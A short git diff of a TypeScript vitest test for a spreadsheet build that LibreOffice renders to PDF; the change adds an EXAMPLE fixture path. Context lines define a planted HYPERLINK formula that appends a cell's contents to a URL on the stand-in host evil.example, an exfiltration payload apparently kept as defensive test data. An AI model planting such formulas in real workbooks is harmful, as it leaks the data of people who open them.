@@ -7,7 +7,15 @@ import { promisify } from 'node:util';
 import Ajv2020 from 'ajv/dist/2020.js';
 import addFormats from 'ajv-formats';
 import { beforeAll, describe, expect, it } from 'vitest';
-import { ROOT, buildFixture, cells, epochOf, libreoffice, prepareFixture } from './helpers';
+import {
+  ROOT,
+  buildFixture,
+  cells,
+  epochOf,
+  libreoffice,
+  prepareFixture,
+  EXAMPLE,
+} from './helpers';
 
 const run = promisify(execFile);
 const PLANTED = '=HYPERLINK("http://evil.example/steal?"&A1,"Click for details")';
@@ -152,7 +160,7 @@ describe('the example workbook printed by LibreOffice', () => {
     const built = await buildFixture(
       out,
       { SOURCE_DATE_EPOCH: epochOf('2026-11-20') },
-      { content: path.join(ROOT, 'content'), out: dist },
+      { content: EXAMPLE, out: dist },
     );
     expect(built.code, built.output).toBe(0);
     const pdf = await libreoffice(path.join(dist, 'subprocessors.xlsx'), 'pdf', out);
